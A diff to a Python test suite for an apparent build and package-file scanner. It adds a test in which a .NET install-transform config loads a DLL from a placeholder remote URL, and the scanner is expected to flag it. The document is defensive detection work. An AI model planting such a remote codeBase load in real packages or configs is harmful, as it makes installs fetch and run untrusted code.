@@ -70,3 +70,11 @@ def test_a_broken_check_says_where() -> None:
     text = 'project(a)\ncheck_c_source_compiles("\n#include <a.h>\n.\nint main(void) { return 0; }\n" X)\n'
     assert the("CMakeLists.mk", text, "build.broken-check").place.row == 4
     assert not behaviours("CMakeLists.mk", text.replace("\n.\n", "\n"))
+
+
+def test_a_library_that_is_loaded_from_an_address() -> None:
+    text = '<configuration><runtime><codeBase version="1.0" href="HREF"/></runtime></configuration>'
+    far = text.replace("HREF", "https://asm.thing.invalid/T.dll")
+    assert "startup.prepended" in found("content/web.config.install.xdt", far, Kind.XML)
+    assert not found("content/web.config.install.xdt", text.replace("HREF", "bin/T.dll"), Kind.XML)
+    assert not found("docs/example.xml", far, Kind.XML)
